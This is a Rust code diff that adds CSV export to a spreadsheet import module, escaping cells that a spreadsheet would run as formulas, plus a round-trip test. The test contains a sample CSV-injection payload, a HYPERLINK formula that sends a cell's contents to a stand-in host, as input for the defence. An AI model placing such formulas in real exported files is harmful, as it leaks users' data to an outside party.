@@ -1,5 +1,6 @@
-//! Reading the spreadsheets people upload (XLSX and CSV) into rows of text,
-//! with every cost bounded whatever the file claims.
+//! Spreadsheets in and out: reading what people upload (XLSX and CSV) into
+//! rows of text, with every cost bounded whatever the file claims, and
+//! writing CSV that a spreadsheet program opens without running anything.
 //!
 //! An XLSX file is a zip archive of XML parts, and a hostile one can claim
 //! a cell a million rows down (a reader that builds a dense grid then
@@ -24,6 +25,63 @@ use std::collections::HashMap;
 use std::io::{BufRead, BufReader, Cursor, Read};
 
 use quick_xml::events::{BytesStart, Event};
+
+/// What makes a spreadsheet program read a cell as a formula when it
+/// opens a CSV file (OWASP's list): `=SUM(…)`, `+`, `-`, `@`, a tab or a
+/// carriage return first.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV cell as we write it: one that a spreadsheet program would run as
+/// a formula gets a leading apostrophe, which it shows as text. So does one
+/// that starts with an apostrophe already, so reading undoes exactly this.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(FORMULA_START) || text.starts_with('\'') {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// Undoes [`csv_cell`]: an apostrophe before a formula character or
+/// another apostrophe goes; any other apostrophe is the text's own.
+fn from_csv_cell(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
+        _ => text,
+    }
+}
+
+/// A CSV file whose every cell goes through [`csv_cell`].
+pub struct CsvWriter {
+    inner: csv::Writer<Vec<u8>>,
+}
+
+impl Default for CsvWriter {
+    fn default() -> Self {
+        Self {
+            inner: csv::Writer::from_writer(Vec::new()),
+        }
+    }
+}
+
+impl CsvWriter {
+    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        let cells: Vec<String> = cells
+            .into_iter()
+            .map(|c| csv_cell(c.as_ref()).into_owned())
+            .collect();
+        self.inner.write_record(&cells)?;
+        Ok(())
+    }
+
+    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
+        Ok(self.inner.into_inner()?)
+    }
+}
 
 /// The largest table an import takes.
 #[derive(Debug, Clone, Copy)]
@@ -157,7 +215,7 @@ fn read_csv(bytes: &[u8], limits: Limits) -> Result<Table, ReadError> {
             csv_core::ReadFieldResult::Field { record_end } => {
                 let value =
                     std::str::from_utf8(&field[..filled]).map_err(|_| ReadError::NotUtf8)?;
-                rows.put(row, column, value.to_owned())?;
+                rows.put(row, column, from_csv_cell(value).to_owned())?;
                 filled = 0;
                 if record_end {
                     row += 1;
@@ -650,6 +708,34 @@ mod tests {
             Err(ReadError::CellTooLong { row: 1, column: 1 })
         );
         assert_eq!(read(b"\xff\xfe", &[], LIMITS), Err(ReadError::NotUtf8));
+    }
+
+    #[test]
+    fn csv_cells_never_run_and_read_back_as_written() {
+        let texts = [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-5",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'=already quoted",
+            "'plain apostrophe",
+            "''",
+            "plain",
+            "",
+        ];
+        let mut w = CsvWriter::default();
+        w.row(texts).unwrap();
+        let bytes = w.finish().unwrap();
+        let written = String::from_utf8(bytes.clone()).unwrap();
+        assert!(written.starts_with("\"'=HYPERLINK("), "{written}");
+        assert!(written.contains(",'+1,'-5,'@SUM(A1),"), "{written}");
+        let back = read(&bytes, &[], LIMITS).unwrap();
+        let expected: Vec<&str> = texts[..texts.len() - 1].to_vec();
+        assert_eq!(back[0], expected);
+        // A person's own apostrophe before ordinary text is kept.
+        assert_eq!(read(b"'hello", &[], LIMITS).unwrap()[0], vec!["'hello"]);
     }
 
     #[test]
